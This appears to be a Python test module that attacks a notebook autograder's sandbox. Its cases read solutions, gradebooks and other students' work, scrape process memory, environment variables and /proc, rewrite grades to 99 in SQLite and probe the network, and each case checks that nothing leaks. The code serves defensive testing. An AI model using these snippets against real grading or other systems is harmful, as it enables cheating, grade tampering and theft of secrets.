"""Theft: of answers, grades, secrets and other people's work; and writing where nobody may."""

from __future__ import annotations

from pathlib import Path

from test_plugins import ASSIGNMENT

from attacks import DOUBLE, Attack

NEIGHBOUR = Path("submitted") / "ann" / ASSIGNMENT / "tiny.ipynb"
FIND = '''\
import os, re, sys
looked, taken = 0, set()
def take(data):
    """Keep what is a secret."""
    data = data if isinstance(data, bytes) else str(data).encode(errors="replace")
    taken.update(re.findall(rb"secre[t]-of-the-\\w+|def _as_shortcu[t]|mean and variance with keepdi[m]", data))
def look(path, read=lambda path: open(path, "rb").read(50_000_000)):
    global looked
    looked += 1
    try:
        take(read(path))
        return True
    except Exception as error:
        errors.add(type(error).__name__)
errors = set()
'''
TOLD = "\nprint('did: looked', looked, *sorted(errors), sorted(taken))"


def _thief(name, row, source, *, did=r"did: looked \d\d+ .*\[\]", **more):
    return Attack(name, row, (did,), FIND + source + TOLD, **more)


ATTACKS = (
    _thief("reads_true_paths", "reading the notebook, solutions, other students, gradebook", """\
for path in TARGETS:
    look(path)
    look(os.path.dirname(path), os.listdir)
"""),
    _thief("walks_up", "reading the notebook, solutions, other students, gradebook", """\
here = os.getcwd()
places = [os.path.normpath(os.path.join(here, *[".."] * n)) for n in range(8)]
places += ["/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/var/tmp", "/tmp", "/home", "/root", "/work", COURSE]
for place in places:
    for folder, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "usr", "lib", "lib64", ".venv")][:200]
        look(folder, os.listdir)
        for name in files[:500]:
            if name.endswith((".db", ".ipynb", ".exam", ".py", ".json", ".csv")):
                look(os.path.join(folder, name))
"""),
    Attack(
        "hands_in_links", "reading the notebook, solutions, other students, gradebook",
        (r"did: looked \d .*\[\]",),
        FIND + """\
for name in ("loot.db", "loot.ipynb", "loot", "data.csv"):
    look(name)
look("loot/gradebook.db")
""" + TOLD,
        double=DOUBLE, earns=(3, 0, 0), said=("link",),
        files={"loot.db": Path("gradebook.db"), "loot.ipynb": NEIGHBOUR, "loot": Path(), "data.csv": Path("solutions") / f"{ASSIGNMENT}.py"},
    ),
    Attack(
        "is_a_link", "reading the notebook, solutions, other students, gradebook",
        said=("link",), flagged=("double", "triple", "batchnorm_forward"), files={"tiny.ipynb": NEIGHBOUR},
    ),
    _thief("writes_everywhere", "writing results or the gradebook", """\
import sqlite3, shutil
def write(path):
    with open(path, "r+b") as file:
        file.write(b"stolen")
def create(path):
    with open(os.path.join(os.path.dirname(path), "stolen-by-an-attack"), "w") as file:
        file.write("stolen")
def replace(path):
    os.rename(path, path + ".stolen-by-an-attack")
def link(path):
    os.symlink("/etc", os.path.join(os.path.dirname(path), "stolen-by-an-attack"))
def update(path):
    with sqlite3.connect(path, timeout=0.1) as database:
        database.execute("update grade set auto_score = 99, manual_score = 99")
for path in WITHIN:
    for way in (write, create, replace, link, update, os.remove, lambda path: os.chmod(path, 0o666)):
        look(path, lambda path: str(way(path) or "secret-of-the-written"))
for path in ("../oracle/s", "../oracle/x", "../kernel.json", "../filter", "../../x", "../io/../kernel.json"):
    for way in (write, create, replace, os.remove):
        look(path, lambda path: str(way(path) or "secret-of-the-written"))
""", did=r"did: looked \d\d .*\[\]"),
    _thief("walks_frames", "frame theft", """\
def frames(x):
    frame = sys._getframe()
    while frame is not None:
        look(frame, lambda frame: (frame.f_locals, frame.f_globals.keys(), frame.f_code.co_consts))
        frame = frame.f_back
    for frame in sys._current_frames().values():
        while frame is not None:
            look(frame, lambda frame: frame.f_locals)
            frame = frame.f_back
    return 99
""", double="def double(x):\n    return frames(x)", last="print('did: looked', looked, sorted(taken))",
        did=r"did: looked \d\d\d+ \[\]"),
    _thief("opens_closures", "closure theft", """\
import gc, types
gc.unfreeze()
for found in gc.get_objects():
    if isinstance(found, types.FunctionType):
        look(found, lambda f: ([c.cell_contents for c in f.__closure__ or ()], f.__defaults__, f.__code__.co_consts))
""", did=r"did: looked \d{4,} .*\[\]"),
    _thief("reads_linecache", "linecache theft", """\
import inspect, linecache, pkgutil, autograder, coursekit
for name in list(linecache.cache):
    look(name, lambda name: linecache.getlines(name))
for module in list(sys.modules.values()):
    look(module, inspect.getsource)
for package in (autograder, coursekit):
    for found in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
        look(found.name, lambda name: inspect.getsource(__import__(name, fromlist=["x"])))
for name in ("autograder.catalog", "autograder.oracle", "autograder.feedback", "tiny_course", "attacks.course", "solutions"):
    look(name, lambda name: inspect.getsource(__import__(name, fromlist=["x"])))
""", did=r"did: looked \d{3,} .*ModuleNotFoundError.*\[\]"),
    _thief("searches_garbage", "gc theft", """\
import gc
gc.unfreeze()
def search(x):
    for found in gc.get_objects():
        if isinstance(found, (dict, list, tuple)) and found is not taken:
            look(found, lambda found: [t for t in (found.values() if type(found) is dict else found) if type(t) in (str, bytes)])
        if type(found) is dict and "reference" in found and "misconceptions" in found:
            taken.add(b"an exercise of the catalogue")
    return 99
search(3)
""", double="def double(x):\n    return search(x) if looked < 200_000 else 99", last="print('did: looked', looked, sorted(taken))",
        did=r"did: looked \d{5,} \[\]"),
    _thief("reads_memory", "gc theft", """\
def anonymous(line):
    span, rights, _, device, *_ = line.split()
    begin, end = (int(n, 16) for n in span.split("-"))
    return (begin, end - begin) if rights.startswith("rw") and device == "00:00" else None
def piece(place):
    with open("/proc/self/mem", "rb", 0) as memory:
        memory.seek(place[0])
        return memory.read(min(place[1], 2**23))
places = [p for p in map(anonymous, open("/proc/self/maps")) if p]
for place in places:
    look(place, piece)
""", did=r"did: looked \d\d+ .*\[\]"),
    _thief("searches_proc", "/proc", """\
def opened(path):
    take(os.readlink(path))
    # To read from another kind of file would be to wait.
    if os.path.isfile(path):
        look(path)
numbers = sorted({int(n) for n in os.listdir("/proc") if n.isdigit()} | set(range(1, 300)))
for pid in numbers:
    for name in ("environ", "cmdline", "maps", "status", "mountinfo"):
        look(f"/proc/{pid}/{name}")
    for name in ("cwd", "root"):
        look(f"/proc/{pid}/{name}/gradebook.db")
        look(f"/proc/{pid}/{name}" + COURSE + "/gradebook.db")
    look(f"/proc/{pid}/fd", lambda path: [opened(f"{path}/{n}") for n in os.listdir(path)])
for name in ("keys", "key-users", "net/unix", "net/tcp", "locks", "sched_debug"):
    look("/proc/" + name)
""", did=r"did: looked \d{4,} .*\[\]"),
    _thief("uses_descriptors", "inherited descriptors", """\
import fcntl, socket, stat
def use(fd):
    kind = os.readlink(f"/proc/self/fd/{fd}")
    take(kind)
    if "gradebook" in kind or COURSE in kind and "kernels-" not in kind:
        taken.add(kind.encode())
    if stat.S_ISREG(os.fstat(fd).st_mode):
        return os.pread(fd, 2**20, 0)
    return b""
for fd in range(3, 1024):
    look(fd, use)
"""),
    _thief("reads_environment", "tokens in env or argv", """\
import ctypes, subprocess
for value in [*os.environ.values(), *sys.argv, *sys.orig_argv, *sys.path]:
    look(value, str)
for pid in ("self", os.getpid(), os.getppid(), 1):
    look(f"/proc/{pid}/environ")
    look(f"/proc/{pid}/cmdline")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for n in range(1000):
    if environ[n] is None:
        break
    look(n, lambda n: environ[n])
look("ps", lambda _: subprocess.run(["sh", "-c", "ps auxeww; env; cat /proc/*/environ"], capture_output=True).stdout)
"""),
    _thief("reaches_the_network", "network", """\
import socket, urllib.request
def reach(address):
    with socket.create_connection(address, timeout=1):
        return "secret-of-the-network"
for address in (("127.0.0.1", PORT), ("localhost", PORT), ("0.0.0.0", PORT), ("192.0.2.1", 80), ("198.51.100.1", 80)):
    look(address, reach)
look("udp", lambda _: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.1", 53)) and "secret-of-the-network")
look("url", lambda _: urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1) and "secret-of-the-network")
for name in ("example.invalid", "course.invalid"):
    look(name, lambda name: socket.getaddrinfo(name, 80) and "secret-of-the-network")
""", did=r"did: looked \d .*\[\]"),
)  # fmt: skip
